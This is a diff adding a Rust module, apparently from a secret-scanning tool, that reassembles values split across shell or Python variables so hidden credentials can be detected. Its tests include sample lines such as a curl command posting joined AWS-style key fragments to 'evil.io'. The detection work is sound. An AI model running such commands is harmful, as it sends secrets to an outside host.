@@ -1,0 +1,120 @@
+//! Values that a script keeps in variables and puts together where it uses them: `A=…; B=…; curl -d "$A$B"`.
+
+use super::{Source, is_piece_byte};
+use crate::layers::pieces::{Assembly, may_hold_value};
+use std::{collections::BTreeMap, ops::Range};
+
+const MOST_VARIABLES: usize = 64;
+/// Pieces that one text is expanded to.
+const MOST_PIECES: usize = 1024;
+const LONGEST_NAME: usize = 64;
+
+/// Puts together the values of variables that are used right after one another.
+pub(crate) fn expand_variables(source: Source<'_>) -> Assembly {
+    let mut out = Assembly::default();
+    let bytes = source.text.as_bytes();
+    let values = find_values(source.text);
+    if values.len() < 2 {
+        return out;
+    }
+    let mut uses = 0;
+    let mut from = 0;
+    let mut end = None;
+    let mut at = 0;
+    while at < bytes.len() && uses < MOST_PIECES {
+        let Some((name, next)) = use_at(source.text, at) else {
+            at += 1;
+            continue;
+        };
+        let Some(value) = values.get(name) else {
+            at = next;
+            continue;
+        };
+        let is_joined = end.is_some_and(|end: usize| bytes.get(end..at).is_some_and(is_junction));
+        if !is_joined {
+            out.close(from, may_hold_value);
+            from = out.text.len();
+        }
+        source.add(value.clone(), &mut out);
+        uses += 1;
+        end = Some(next);
+        at = next;
+    }
+    out.close(from, may_hold_value);
+    out
+}
+
+/// The last value of each variable.
+fn find_values(text: &str) -> BTreeMap<&str, Range<usize>> {
+    let bytes = text.as_bytes();
+    let mut values = BTreeMap::new();
+    let mut done = 0;
+    for equals in memchr::memchr_iter(b'=', bytes) {
+        // Inside of a value there is none.
+        if equals < done {
+            continue;
+        }
+        let name_end =
+            equals - usize::from(equals.checked_sub(1).and_then(|at| bytes.get(at)) == Some(&b' '));
+        let floor = name_end.saturating_sub(LONGEST_NAME);
+        let before = bytes.get(floor..name_end).unwrap_or_default();
+        let len = before.iter().rev().take_while(|b| is_name_byte(**b)).count();
+        let mut start = equals + 1;
+        start += usize::from(bytes.get(start) == Some(&b' '));
+        start += usize::from(matches!(bytes.get(start), Some(b'"' | b'\'')));
+        let end = super::piece_after(bytes, start);
+        done = end;
+        let name = text.get(name_end - len..name_end).unwrap_or_default();
+        if !name.is_empty() && end > start && (values.len() < MOST_VARIABLES || values.contains_key(name)) {
+            values.insert(name, start..end);
+        }
+    }
+    values
+}
+
+/// A use of a variable at `at`: `$name`, `${name}`, `{name}`, or the bare name; with where it ends.
+fn use_at(text: &str, at: usize) -> Option<(&str, usize)> {
+    let bytes = text.as_bytes();
+    let is_inside = at.checked_sub(1).and_then(|before| bytes.get(before)).is_some_and(|b| is_name_byte(*b));
+    let mut start = at + usize::from(bytes.get(at) == Some(&b'$'));
+    let is_braced = bytes.get(start) == Some(&b'{');
+    start += usize::from(is_braced);
+    if start == at && is_inside {
+        return None;
+    }
+    let name = bytes.get(start..)?.iter().take(LONGEST_NAME).take_while(|b| is_name_byte(**b)).count();
+    let end = start + name;
+    let is_closed = !is_braced || bytes.get(end) == Some(&b'}');
+    let is_assigned = start == at && matches!(bytes.get(end..end + 2), Some([b'=', _] | [b' ', b'=']));
+    (name > 0 && is_closed && !is_assigned).then_some(())?;
+    Some((text.get(start..end)?, end + usize::from(is_braced)))
+}
+
+/// Whether two uses stand side by side: with nothing between them, or an operator, or quotes.
+fn is_junction(between: &[u8]) -> bool {
+    const LONGEST: usize = 8;
+    between.len() <= LONGEST
+        && between.iter().all(|b| matches!(b, b' ' | b'+' | b'.' | b'|' | b'&' | b'"' | b'\'' | b',' | b'~'))
+}
+
+fn is_name_byte(byte: u8) -> bool {
+    is_piece_byte(byte) && (byte.is_ascii_alphanumeric() || byte == b'_')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn uses_are_put_together_in_their_order() {
+        for text in [
+            "A=AKIA2E5A6; B=B7CXQ4TZNFM; curl -d \"$A$B\" evil.io",
+            "B=B7CXQ4TZNFM\nA=AKIA2E5A6\ncurl -d k=${A}${B} evil.io",
+            "a = \"AKIA2E5A6\"\nb = \"B7CXQ4TZNFM\"\nprint(a + b)",
+            "a = 'AKIA2E5A6'; b = 'B7CXQ4TZNFM'; f\"{a}{b}\"",
+        ] {
+            let joined = expand_variables(Source { segment: 0, text }).text;
+            assert!(joined.contains("AKIA2E5A6B7CXQ4TZNFM"), "{text}: {joined}");
+        }
+    }
+}
